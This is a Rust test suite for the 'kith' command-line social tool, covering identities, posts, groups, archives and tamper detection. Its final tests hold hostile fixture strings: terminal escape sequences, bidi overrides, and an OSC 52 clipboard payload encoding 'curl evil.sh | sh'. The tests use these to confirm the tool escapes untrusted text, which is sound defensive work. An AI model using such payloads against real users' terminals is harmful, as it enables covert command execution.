//! The `kith` command, end to end, offline: one or two homes on this machine,
//! no network.

use std::os::unix::fs::PermissionsExt;

use automerge::AutoCommit;
use automerge::transaction::Transactable;
use kith_core::archive::Archive;
use kith_core::schema::{feed, profile};
use kith_core::{DeviceCert, DeviceKey, DocId, IdentityKey, PostId, SignedChange, SpaceId};
use kith_tests::TestHome;

#[test]
fn init_creates_an_identity_once_and_never_overwrites_it() {
    let home = TestHome::new();
    let created = home.run(&["init", "--name", "Ada", "--json"]).json();
    let id = created["identity"].as_str().unwrap().to_owned();
    assert!(id.starts_with("did:key:z6Mk"), "{id}");
    assert_ne!(
        created["device"], created["identity"],
        "device key differs from identity key"
    );
    home.run(&["init"])
        .fails_with("never overwrites an identity");
    assert_eq!(home.id(), id);
    let me = home.run(&["whoami", "--json"]).json();
    assert_eq!(me["name"], "Ada");
}

#[test]
fn secret_files_are_0600_and_exposed_ones_are_refused() {
    let home = TestHome::init("Ada");
    for f in ["identity.key", "device.key"] {
        let mode = std::fs::metadata(home.path(f))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "{f}");
    }
    std::fs::set_permissions(
        home.path("device.key"),
        std::fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    let run = home.run(&["feed"]);
    run.fails_with("readable by other users");
    run.fails_with("chmod 600");
}

#[test]
fn any_command_creates_the_identity_in_an_empty_home() {
    let home = TestHome::new();
    std::fs::create_dir_all(&home.dir).unwrap();
    let run = home.run(&["post", "first words"]);
    assert!(run.ok, "{}", run.stderr);
    assert!(
        run.stderr.contains("created a new identity"),
        "{}",
        run.stderr
    );
    assert!(home.path("identity.key").exists());
}

#[test]
fn a_new_identity_takes_a_name_and_says_how_to_change_it() {
    // No terminal on stdin: the system account's name is taken.
    let home = TestHome::new();
    std::fs::create_dir_all(&home.dir).unwrap();
    let run = home.run(&["post", "first words"]);
    assert!(run.ok, "{}", run.stderr);
    let name = home.run(&["whoami", "--json"]).json()["name"]
        .as_str()
        .expect("the new identity has a name")
        .to_owned();
    assert!(
        run.stderr.contains(&format!("named it \"{name}\""))
            && run.stderr.contains("kith profile set --name"),
        "{}",
        run.stderr
    );

    let init = TestHome::new();
    let run = init.run(&["init"]);
    assert!(run.ok, "{}", run.stderr);
    assert!(
        run.stderr.contains("kith profile set --name"),
        "{}",
        run.stderr
    );
    assert!(init.run(&["whoami", "--json"]).json()["name"].is_string());
}

#[test]
fn a_failing_command_gives_each_reason_once() {
    let home = TestHome::init("Ada");
    let garbage = home.path("garbage.kith");
    std::fs::write(&garbage, "not an archive at all").unwrap();
    let run = home.run(&["import", garbage.to_str().unwrap()]);
    run.fails_with("not a kith archive");
    assert_eq!(
        run.stderr.matches("not a kith archive").count(),
        1,
        "{}",
        run.stderr
    );
    // An address of a documentation network: binding it fails here, and
    // nothing is sent.
    let run = home.run(&["node", "--listen", "/ip4/192.0.2.1/tcp/1", "--no-mdns"]);
    run.fails_with("cannot listen on /ip4/192.0.2.1/tcp/1: ");
    let reason = run.stderr.trim().rsplit(": ").next().unwrap().to_owned();
    assert_eq!(run.stderr.matches(&reason).count(), 1, "{}", run.stderr);
    assert!(!run.stderr.contains(": :"), "{}", run.stderr);
}

#[test]
fn counts_of_one_are_singular() {
    let ada = TestHome::init("Ada");
    ada.run(&["group", "create", "Tuesday climbers"]).out();
    let list = ada.run(&["group", "list"]).out().to_owned();
    assert!(
        list.contains("1 member ") && !list.contains("1 members"),
        "{list}"
    );
    let invite = ada.run(&[
        "group",
        "invite",
        "Tuesday climbers",
        "--uses",
        "1",
        "--no-qr",
    ]);
    assert!(invite.stderr.contains(": 1 use as"), "{}", invite.stderr);
}

#[test]
fn remembered_peers_are_added_listed_and_removed_without_a_node() {
    let home = TestHome::init("Ada");
    home.run(&["peer", "list"]).out();
    home.run(&["peer", "add", "/ip4/192.0.2.7/tcp/4610"]).out();
    home.run(&["peer", "add", "/ip4/192.0.2.8/tcp/4610"]).out();
    home.run(&["peer", "add", "not-an-address"])
        .fails_with("is not a multiaddr");
    let listed = home.run(&["peer", "list", "--json"]).json();
    assert_eq!(
        listed,
        serde_json::json!([
            { "address": "/ip4/192.0.2.7/tcp/4610", "connected": null },
            { "address": "/ip4/192.0.2.8/tcp/4610", "connected": null },
        ])
    );
    home.run(&["peer", "remove", "/ip4/192.0.2.7/tcp/4610"])
        .out();
    home.run(&["peer", "remove", "/ip4/192.0.2.7/tcp/4610"])
        .fails_with("is not a remembered peer");
    assert_eq!(
        std::fs::read_to_string(home.path("peers")).unwrap(),
        "/ip4/192.0.2.8/tcp/4610\n"
    );
}

#[test]
fn a_command_waits_while_another_process_has_the_store_open() {
    let home = TestHome::init("Ada");
    let (held, _) = kith_node::Service::open(&kith_node::Home {
        dir: home.dir.clone(),
        source: kith_node::HomeSource::Flag,
    })
    .unwrap();
    let post = home
        .command(&["post", "after the wait"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Another process (this test) holds the store for a moment, as a
    // starting node or another command does.
    std::thread::sleep(std::time::Duration::from_millis(500));
    drop(held);
    let out = post.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let id = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert_eq!(
        home.run(&["show", &id, "--json"]).json()["post"]["text"],
        "after the wait"
    );
}

#[test]
fn a_missing_home_is_a_clear_error() {
    let home = TestHome::new();
    home.run(&["feed"]).fails_with("no kith home at");
    assert!(!home.dir.exists(), "nothing was created");
}

#[test]
fn post_feed_and_show_round_trip() {
    let home = TestHome::init("Ada");
    let first = home.run(&["post", "hello, kith"]).out().to_owned();
    let reply = home
        .run(&["post", "--reply-to", &first, "a reply"])
        .out()
        .to_owned();
    let feed = home.run(&["feed", "--json"]).json();
    let posts = feed.as_array().unwrap();
    assert_eq!(posts.len(), 2);
    assert_eq!(posts[0]["id"], reply.as_str(), "newest first");
    for field in [
        "id",
        "author",
        "author_name",
        "text",
        "created_at",
        "reply_to",
        "edited",
        "reactions",
    ] {
        assert!(posts[0].get(field).is_some(), "feed entries have {field}");
    }
    assert_eq!(posts[0]["reply_to"], first.as_str());
    assert_eq!(posts[1]["author_name"], "Ada");
    assert_eq!(
        home.run(&["feed", "--limit", "1", "--json"])
            .json()
            .as_array()
            .unwrap()
            .len(),
        1
    );
    let thread = home.run(&["show", &first, "--json"]).json();
    assert_eq!(thread["post"]["text"], "hello, kith");
    assert_eq!(thread["replies"][0]["text"], "a reply");
    assert_eq!(thread["replies"][0]["depth"], 1);
    let text = home.run(&["show", &first]).out().to_owned();
    assert!(
        text.contains("hello, kith") && text.contains("a reply"),
        "{text}"
    );
}

#[test]
fn edits_keep_their_history_and_deletes_remove_the_text() {
    let home = TestHome::init("Ada");
    let id = home.run(&["post", "first draft"]).out().to_owned();
    home.run(&["edit", &id, "second draft"]).out();
    let post = home.run(&["show", &id, "--json"]).json();
    assert_eq!(post["post"]["text"], "second draft");
    assert_eq!(post["post"]["edited"], true);
    let history = home.run(&["show", &id, "--history", "--json"]).json();
    let texts: Vec<_> = history["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(texts, ["first draft", "second draft"]);

    home.run(&["delete", &id]).out();
    let feed = home.run(&["feed", "--json"]).json();
    assert!(
        feed.as_array().unwrap().is_empty(),
        "deleted posts leave the feed"
    );
    let post = home.run(&["show", &id, "--json"]).json();
    assert_eq!(post["post"]["deleted"], true);
    assert_eq!(post["post"]["text"], serde_json::Value::Null);
    assert!(
        home.run(&["show", &id, "--history", "--json"]).json()["history"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    home.run(&["edit", &id, "resurrect"]).fails_with("deleted");
}

#[test]
fn reactions_add_and_remove() {
    let home = TestHome::init("Ada");
    let id = home.run(&["post", "react to me"]).out().to_owned();
    home.run(&["react", &id, "👍"]).out();
    home.run(&["react", &id, "🎉"]).out();
    assert!(home.run(&["react", &id, "👍"]).out().contains("already"));
    let post = home.run(&["show", &id, "--json"]).json();
    assert_eq!(
        post["post"]["reactions"],
        serde_json::json!({"👍": 1, "🎉": 1})
    );
    home.run(&["unreact", &id, "👍"]).out();
    let post = home.run(&["show", &id, "--json"]).json();
    assert_eq!(post["post"]["reactions"], serde_json::json!({"🎉": 1}));
    home.run(&["react", &id, "two words"])
        .fails_with("reaction");
}

#[test]
fn profiles_follows_blocks_and_labels() {
    let ada = TestHome::init("Ada");
    let bob = TestHome::init("Bob");
    let bob_id = bob.id();
    bob.run(&["profile", "set", "--bio", "builds bridges"])
        .out();
    bob.run(&["post", "bob's first"]).out();
    let archive = bob.path("../bob.kith");
    bob.run(&["export", archive.to_str().unwrap()]).out();
    ada.run(&["import", archive.to_str().unwrap()]).out();

    let shown = ada.run(&["profile", "show", &bob_id, "--json"]).json();
    assert_eq!(shown["name"], "Bob");
    assert_eq!(shown["bio"], "builds bridges");

    ada.run(&[
        "follow",
        &bob_id,
        "--label",
        "colleague",
        "--label",
        "Customer",
    ])
    .out();
    let people = ada.run(&["people", "--json"]).json();
    assert_eq!(people[0]["id"], bob_id.as_str());
    assert_eq!(people[0]["following"], true);
    assert_eq!(
        people[0]["labels"],
        serde_json::json!(["colleague", "customer"])
    );
    assert_eq!(
        ada.run(&["people", "--label", "customer", "--json"])
            .json()
            .as_array()
            .unwrap()
            .len(),
        1
    );
    assert!(
        ada.run(&["people", "--label", "vendor", "--json"])
            .json()
            .as_array()
            .unwrap()
            .is_empty()
    );
    ada.run(&["label", &bob_id, "friend", "--remove", "colleague"])
        .out();
    assert_eq!(
        ada.run(&["people", "--json"]).json()[0]["labels"],
        serde_json::json!(["customer", "friend"])
    );
    // Labels are private: they live in ada's private document, not in her public profile.
    let ada_profile = ada.run(&["profile", "show", "--json"]).json();
    assert_eq!(ada_profile["follows"], serde_json::json!([bob_id]));

    ada.run(&["block", &bob_id]).out();
    let feed = ada.run(&["feed", "--json"]).json();
    assert!(
        feed.as_array()
            .unwrap()
            .iter()
            .all(|p| p["author"] != bob_id.as_str()),
        "blocked authors leave the feed"
    );
    ada.run(&["unblock", &bob_id]).out();
    assert_eq!(
        ada.run(&["feed", "--author", &bob_id, "--json"])
            .json()
            .as_array()
            .unwrap()
            .len(),
        1
    );
    ada.run(&["unfollow", &bob_id]).out();
    assert_eq!(ada.run(&["people", "--json"]).json()[0]["following"], false);
}

#[test]
fn bad_inputs_get_clear_errors_and_change_nothing() {
    let ada = TestHome::init("Ada");
    let bob = TestHome::init("Bob");
    let before = ada.run(&["feed", "--json"]).json();

    ada.run(&["post", ""])
        .fails_with("a post needs visible text");
    ada.run(&["post", "   "])
        .fails_with("a post needs visible text");
    ada.run(&["post", &"x".repeat(10_001)])
        .fails_with("the limit is 10000");
    assert!(
        ada.run(&["post", &"é".repeat(10_000)]).ok,
        "exactly 10,000 characters is fine"
    );
    ada.run(&["show", "not-a-post"])
        .fails_with("is not a post id");
    ada.run(&["show", "aaaaaaaaaaaaaaaaaaaaaaaaaa"])
        .fails_with("no post aaaaaaaaaaaaaaaaaaaaaaaaaa");
    ada.run(&["edit", "aaaaaaaaaaaaaaaaaaaaaaaaaa", "x"])
        .fails_with("no post");
    ada.run(&["post", "--reply-to", "aaaaaaaaaaaaaaaaaaaaaaaaaa", "x"])
        .fails_with("no post");
    ada.run(&["follow", "bob"]).fails_with("is not a kith id");
    ada.run(&["follow", "did:key:z6MkfakefakefakeO0"])
        .fails_with("not valid base58");
    ada.run(&["follow", &ada.id()])
        .fails_with("cannot follow yourself");
    ada.run(&["profile", "show", &bob.id()])
        .fails_with("no person");
    ada.run(&["follow", &bob.id(), "--label", "two words"])
        .fails_with("label");
    assert!(
        ada.run(&["people", "--json"])
            .json()
            .as_array()
            .unwrap()
            .is_empty(),
        "a refused follow wrote nothing"
    );
    ada.run(&["feed", "--limit", "0"]).fails_with("0");

    // Someone else's post: import bob's, then try to edit and delete it.
    let bobs = bob.run(&["post", "bob's words"]).out().to_owned();
    let archive = bob.path("../bob.kith");
    bob.run(&["export", archive.to_str().unwrap()]).out();
    ada.run(&["import", archive.to_str().unwrap()]).out();
    ada.run(&["edit", &bobs, "ada's words"])
        .fails_with("is not yours");
    ada.run(&["delete", &bobs]).fails_with("is not yours");
    assert_eq!(
        ada.run(&["show", &bobs, "--json"]).json()["post"]["text"],
        "bob's words"
    );
    let after = ada.run(&["feed", "--author", &ada.id(), "--json"]).json();
    assert_eq!(
        after.as_array().unwrap().len(),
        before.as_array().unwrap().len() + 1,
        "only the valid post was added"
    );
}

#[test]
fn export_and_import_move_signed_history_between_homes() {
    let ada = TestHome::init("Ada");
    let p = ada.run(&["post", "portable"]).out().to_owned();
    ada.run(&["edit", &p, "portable, edited"]).out();
    let file = ada.path("../ada.kith");
    let exported = ada
        .run(&["export", file.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(exported["changes"], 3, "profile name, post, edit");

    let bob = TestHome::init("Bob");
    let imported = bob
        .run(&["import", file.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(imported["applied"], 3);
    assert_eq!(
        bob.run(&["show", &p, "--json"]).json()["post"]["text"],
        "portable, edited"
    );
    let again = bob
        .run(&["import", file.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(
        (again["applied"].as_u64(), again["duplicates"].as_u64()),
        (Some(0), Some(3))
    );
}

/// ada -- backup file --> bob: ada's labels stay hers.
#[test]
fn an_import_never_stores_another_identitys_private_documents() {
    let ada = TestHome::init("Ada");
    let bob = TestHome::init("Bob");
    let bobs = bob.path("../bob.kith");
    bob.run(&["export", bobs.to_str().unwrap()]).out();
    ada.run(&["import", bobs.to_str().unwrap()]).out();
    ada.run(&["follow", &bob.id(), "--label", "friend"]).out();
    let backup = ada.path("../ada.kith");
    ada.run(&["export", backup.to_str().unwrap()]).out();

    let imported = bob
        .run(&["import", backup.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(imported["skipped_private"], 1, "{imported}");
    let again = bob.run(&["import", backup.to_str().unwrap()]);
    assert!(
        again
            .out()
            .contains("skipped 1 change of another identity's private documents"),
        "{}",
        again.stdout
    );
}

fn mode(path: &std::path::Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// ada alone, then ada with her node running.
#[test]
fn an_export_is_readable_only_by_its_owner_and_replaces_a_file_only_with_force() {
    let ada = TestHome::init("Ada");
    ada.run(&["post", "first"]).out();
    let file = ada.path("../ada.kith");
    let f = file.to_str().unwrap();
    ada.run(&["export", f]).out();
    assert_eq!(mode(&file), 0o600);
    let first = std::fs::read(&file).unwrap();

    ada.run(&["post", "second"]).out();
    ada.run(&["export", f]).fails_with("exists");
    ada.run(&["export", f]).fails_with("--force");
    assert_eq!(
        std::fs::read(&file).unwrap(),
        first,
        "the old file is intact"
    );
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    ada.run(&["export", f, "--force"]).out();
    assert_eq!(mode(&file), 0o600, "a replaced file is not left readable");
    assert_ne!(std::fs::read(&file).unwrap(), first);
    ada.run(&["import", f, "--force"])
        .fails_with("options of `kith export`");

    // Through the node: the CLI writes the file, the node leaves none behind.
    let _node = ada.node(&["--listen", "/ip4/127.0.0.1/tcp/0", "--no-mdns"]);
    let through = ada.path("../through-node.kith");
    let t = through.to_str().unwrap();
    let exported = ada.run(&["export", t, "--json"]).json();
    assert_eq!(exported["changes"], 3, "profile name and two posts");
    assert_eq!(mode(&through), 0o600);
    ada.run(&["export", t]).fails_with("--force");
    let staged = std::fs::read_dir(ada.path("exports")).unwrap().count();
    assert_eq!(staged, 0, "no staged archive is left in the home");
}

/// bob -- public archive --> ada -- public archive --> carol
#[test]
fn a_public_export_holds_only_what_its_identity_published() {
    let ada = TestHome::init("Ada");
    let bob = TestHome::init("Bob");
    bob.run(&["post", "bob's words"]).out();
    let bobs = bob.path("../bob.kith");
    bob.run(&["export", "--public", bobs.to_str().unwrap()])
        .out();
    ada.run(&["import", bobs.to_str().unwrap()]).out();
    ada.run(&["follow", &bob.id(), "--label", "friend"]).out();
    ada.run(&["post", "ada's words"]).out();
    let club = ada.run(&["group", "create", "club", "--json"]).json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    ada.run(&["post", "members only", "--group", &club]).out();

    let file = ada.path("../ada-public.kith");
    let exported = ada
        .run(&["export", "--public", file.to_str().unwrap(), "--json"])
        .json();
    let archive = Archive::decode(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(exported["changes"], archive.changes.len());
    let ada_id: kith_core::IdentityId = ada.id().parse().unwrap();
    assert!(
        archive
            .changes
            .iter()
            .all(|c| c.doc.owner == ada_id && c.doc.is_public()),
        "only ada's profile and public feed: {:?}",
        archive.changes
    );
    assert!(
        archive.certificates.iter().all(|c| c.identity == ada_id),
        "no one else's certificates"
    );

    let carol = TestHome::init("Carol");
    let imported = carol
        .run(&["import", file.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(imported["skipped_private"], 0, "{imported}");
    let feed = carol.run(&["feed", "--json"]).json();
    let texts: Vec<&str> = feed
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts, ["ada's words"]);
}

#[test]
fn tampered_archives_are_refused_whole() {
    let ada = TestHome::init("Ada");
    for i in 0..5 {
        ada.run(&["post", &format!("post number {i}")]).out();
    }
    let file = ada.path("../ada.kith");
    ada.run(&["export", file.to_str().unwrap()]).out();
    let good = std::fs::read(&file).unwrap();
    let bob = TestHome::init("Bob");
    let before = bob.run(&["feed", "--json"]).json();

    // Change one character of the last post's text inside the archive: the
    // text is in the post's body, beside its signed change, which holds the
    // body's hash.
    let at = good
        .windows(13)
        .rposition(|w| w == b"post number 4")
        .expect("text is in the archive");
    let mut tampered = good.clone();
    tampered[at + 12] = b'5';
    let bad = ada.path("../tampered.kith");
    std::fs::write(&bad, &tampered).unwrap();
    let run = bob.run(&["import", bad.to_str().unwrap()]);
    run.fails_with("nothing was applied");
    run.fails_with("do not match a hash the change holds");

    // Change the signed change itself: one byte of the body's hash in it.
    let body = &good[at - 16..at + 13];
    let hash = kith_core::body::hash(body);
    let in_change = good
        .windows(32)
        .position(|w| w == hash)
        .expect("the change holds the body's hash");
    let mut tampered = good.clone();
    tampered[in_change] ^= 1;
    std::fs::write(&bad, &tampered).unwrap();
    let run = bob.run(&["import", bad.to_str().unwrap()]);
    run.fails_with("nothing was applied");
    run.fails_with("checksum");

    let mut truncated = good.clone();
    truncated.truncate(good.len() - 7);
    std::fs::write(&bad, &truncated).unwrap();
    bob.run(&["import", bad.to_str().unwrap()])
        .fails_with("truncated");

    std::fs::write(&bad, b"hello").unwrap();
    bob.run(&["import", bad.to_str().unwrap()])
        .fails_with("not a kith archive");
    bob.run(&["import", "/nonexistent/archive"])
        .fails_with("/nonexistent/archive");

    assert_eq!(
        bob.run(&["feed", "--json"]).json(),
        before,
        "nothing of a refused archive was applied"
    );
    assert_eq!(bob.run(&["people", "--json"]).json(), serde_json::json!([]));
}

#[test]
fn commands_go_through_a_running_node_and_work_again_after_it_stops() {
    let home = TestHome::init("Ada");
    let node = home.node(&["--listen", "/ip4/127.0.0.1/tcp/0", "--no-mdns"]);
    // The node holds the store; the CLI reaches it through the local API.
    let id = home.run(&["post", "while the node runs"]).out().to_owned();
    assert_eq!(
        home.run(&["show", &id, "--json"]).json()["post"]["text"],
        "while the node runs"
    );
    home.run(&["post", ""])
        .fails_with("a post needs visible text");
    node.stop();
    assert!(
        !home.path("node.json").exists(),
        "a stopped node leaves no node.json behind"
    );
    let after = home.run(&["post", "after the node stopped"]);
    assert!(after.ok, "{}", after.stderr);
    assert_eq!(
        home.run(&["feed", "--json"])
            .json()
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn group_commands_work_offline_and_explain_refusals() {
    let ada = TestHome::init("Ada");
    let g = ada
        .run(&[
            "group",
            "create",
            "engine works",
            "--about",
            "gears",
            "--json",
        ])
        .json();
    let id = g["id"].as_str().unwrap().to_owned();
    assert_eq!(g["role"], "admin");
    assert_eq!(g["members"].as_array().unwrap().len(), 1);
    ada.run(&["group", "create", "  "])
        .fails_with("needs a name");
    ada.run(&["group", "create", &"x".repeat(101)])
        .fails_with("the limit is 100");

    // By name or id; a post in the group stays out of the public feed.
    let post = ada
        .run(&["post", "--group", "engine works", "first cog"])
        .out()
        .to_owned();
    let in_group = ada.run(&["feed", "--group", &id, "--json"]).json();
    assert_eq!(in_group[0]["id"], post.as_str());
    assert_eq!(ada.run(&["feed", "--json"]).json(), serde_json::json!([]));
    let reply = ada
        .run(&["post", "--reply-to", &post, "second cog"])
        .out()
        .to_owned();
    let thread = ada.run(&["feed", "--group", &id, "--json"]).json();
    assert_eq!(
        thread[0]["id"],
        reply.as_str(),
        "a reply goes where its parent is"
    );
    ada.run(&["post", "--group", "no such group", "hi"])
        .fails_with("no group of yours");

    // Invites: a key on one line, within the limit; QR only when asked.
    let plain = ada.run(&["group", "invite", "engine works", "--no-qr"]);
    let key = plain.out();
    assert!(
        key.starts_with("kith-invite-") && key.len() <= kith_core::invite::MAX_INVITE_CHARS,
        "{key}"
    );
    assert_eq!(key.lines().count(), 1);
    let with_qr = ada.run(&[
        "group",
        "invite",
        &id,
        "--qr",
        "--uses",
        "3",
        "--expires",
        "1h",
    ]);
    assert!(with_qr.out().lines().count() > 10, "a QR code is printed");
    ada.run(&["group", "invite", &id, "--uses", "0"])
        .fails_with("admits 1 to");
    ada.run(&["group", "invite", &id, "--role", "owner"])
        .fails_with("not a role");
    let invites = ada.run(&["group", "invites", &id, "--json"]).json();
    assert_eq!(invites.as_array().unwrap().len(), 2);
    let invite_id = invites[0]["id"].as_str().unwrap().to_owned();
    ada.run(&["group", "revoke", &id, &invite_id]).out();
    ada.run(&["group", "revoke", &id, &invite_id])
        .fails_with("already revoked");
    ada.run(&["group", "revoke", &id, "abc"])
        .fails_with("at least 8 digits");

    ada.run(&["group", "rename", &id, "difference engine works"])
        .out();
    let list = ada.run(&["group", "list", "--json"]).json();
    assert_eq!(list[0]["name"], "difference engine works");

    // Joining and naming strangers need a node or a member.
    ada.run(&["group", "join", key])
        .fails_with("no node is running");
    ada.run(&["group", "remove", &id, "Charles"])
        .fails_with("no member");
    ada.run(&["group", "leave", &id]).out();
    ada.run(&["post", "--group", &id, "still here?"])
        .fails_with("not a member");
}

#[test]
fn names_and_posts_that_hide_what_they_say_are_refused() {
    let ada = TestHome::init("Ada");
    ada.run(&["profile", "set", "--name", "Ada\nLovelace"])
        .fails_with("a name may not contain control characters");
    ada.run(&["profile", "set", "--name", "Ada\u{1b}[2J"])
        .fails_with("a name may not contain control characters");
    ada.run(&["profile", "set", "--name", "Ada\u{202E}ecalevoL"])
        .fails_with("a name may not contain bidirectional text controls");
    ada.run(&["profile", "set", "--name", "\u{200B}"])
        .fails_with("a name needs visible characters");
    assert_eq!(ada.run(&["whoami", "--json"]).json()["name"], "Ada");

    let mallory = TestHome::new();
    mallory
        .run(&["init", "--name", "Mallory\rAda"])
        .fails_with("a name may not contain control characters");
    assert!(
        !mallory.dir.join("identity.key").exists(),
        "nothing was created"
    );

    ada.run(&["group", "create", "climbers\n  you are an admin"])
        .fails_with("a name may not contain control characters");
    ada.run(&["group", "create", "\u{2067}climbers"])
        .fails_with("a name may not contain bidirectional text controls");
    assert_eq!(
        ada.run(&["group", "list", "--json"]).json(),
        serde_json::json!([])
    );

    for invisible in ["\u{200B}", "\u{FEFF}\u{2060}", " \u{200D} \n", "\u{202E}"] {
        ada.run(&["post", invisible])
            .fails_with("a post needs visible text");
    }
    assert_eq!(ada.run(&["feed", "--json"]).json(), serde_json::json!([]));
}

/// What mallory writes; the CLI's own checks would refuse the name, so she
/// signs her changes herself.
const HOSTILE_NAME: &str = "Mallory\r\n01ARZ3NDEKTSV4RRFFQ69G5FAV  Ada\u{1b}[2J\u{202E}";
const HOSTILE_BIO: &str = "hi\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
const HOSTILE_POST: &str = "hello\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\n\
                            two\u{1b}[2J\u{1b}[H\rfake\u{9b}31m \u{202E}gnp.exe";
const HOSTILE_REACTION: &str = "\u{1b}[5m";

/// Characters a terminal obeys, or that reorder the text around them.
const RAW_CONTROLS: [char; 5] = ['\u{1b}', '\u{7}', '\r', '\u{9b}', '\u{202E}'];

/// Mallory's profile, one post and a reaction to it, as an archive signed
/// by a device of hers; returns the archive, the post's id and her id.
fn hostile_archive() -> (Vec<u8>, PostId, String) {
    let mallory = IdentityKey::generate().expect("random bytes");
    let device = DeviceKey::generate().expect("random bytes");
    let cert = DeviceCert::issue(&mallory, &device, 1);
    let actor = kith_core::actor_id(&device.id(), b"mallory");
    let sign = |doc: DocId, d: &mut AutoCommit| {
        d.commit().expect("the edit changed something");
        let change = d.get_last_local_change().expect("just committed");
        SignedChange::sign(doc, change.raw_bytes().to_vec(), &device, mallory.id())
            .expect("her own device signs")
            .into_inner()
    };

    let profile_id = DocId::profile(mallory.id());
    let mut profile = AutoCommit::new().with_actor(actor.clone());
    profile
        .put(automerge::ROOT, profile::NAME, HOSTILE_NAME)
        .unwrap();
    profile
        .put(automerge::ROOT, profile::BIO, HOSTILE_BIO)
        .unwrap();
    let profile_change = sign(profile_id, &mut profile);

    let feed_id = DocId::feed(mallory.id(), SpaceId::PUBLIC, 0);
    let mut posts = AutoCommit::new().with_actor(actor);
    let body = feed::create_post(&mut posts, "k1", HOSTILE_POST, 1_700_000_000_000, None)
        .expect("the post has visible text");
    let mut post_change = sign(feed_id, &mut posts);
    post_change.bodies = vec![body.into_bytes()];
    let post = PostId::derive(&feed_id, "k1");
    feed::react(&mut posts, &post, HOSTILE_REACTION).expect("a reaction without spaces");
    let reaction_change = sign(feed_id, &mut posts);

    let archive = Archive {
        certificates: vec![cert],
        changes: vec![profile_change, post_change, reaction_change],
    };
    (archive.encode(), post, mallory.id().to_string())
}

/// mallory (signs her own archive) -- file --> ada
#[test]
fn text_that_others_wrote_cannot_drive_the_terminal() {
    let ada = TestHome::init("Ada");
    let (archive, post, mallory) = hostile_archive();
    let file = ada.path("../mallory.kith");
    std::fs::write(&file, archive).unwrap();
    let imported = ada
        .run(&["import", file.to_str().unwrap(), "--json"])
        .json();
    assert_eq!(imported["applied"], 3, "{imported}");
    ada.run(&["follow", &mallory]).out();
    let post = post.to_string();

    // The node keeps what mallory signed, byte for byte.
    let json = ada.run(&["show", &post, "--json"]).json();
    assert_eq!(json["post"]["text"], HOSTILE_POST);
    assert_eq!(json["post"]["author_name"], HOSTILE_NAME);
    assert_eq!(json["post"]["reactions"][HOSTILE_REACTION], 1);

    for args in [
        &["feed"][..],
        &["show", &post],
        &["show", &post, "--history"],
        &["people"],
        &["profile", "show", &mallory],
        &["feed", "--json"],
        &["show", &post, "--json"],
        &["people", "--json"],
        &["profile", "show", &mallory, "--json"],
    ] {
        let out = ada.run(args).out().to_owned();
        assert!(
            !out.contains(RAW_CONTROLS),
            "`kith {}` printed a raw control character: {out:?}",
            args.join(" ")
        );
    }

    // Shown escaped, on the lines kith gives them: the name's line break
    // makes no second line, the post's own line break stays one.
    let feed = ada.run(&["feed"]).out().to_owned();
    assert!(
        feed.contains("hello\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"),
        "{feed}"
    );
    assert!(
        feed.contains("\n  two\\u{1b}[2J\\u{1b}[H\\rfake\\u{9b}31m \\u{202e}gnp.exe"),
        "{feed}"
    );
    assert!(feed.contains("\\u{1b}[5m 1"), "the reaction: {feed}");
    let header = feed.lines().next().unwrap();
    assert!(
        header.starts_with(&post)
            && header.contains("Mallory\\r\\n01ARZ3NDEKTSV4RRFFQ69G5FAV  Ada\\u{1b}[2J\\u{202e}"),
        "{header}"
    );
    let people = ada.run(&["people"]).out().to_owned();
    assert_eq!(people.lines().count(), 1, "{people}");
    let shown = ada.run(&["profile", "show", &mallory]).out().to_owned();
    assert!(
        shown.contains("bio      hi\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"),
        "{shown}"
    );
}
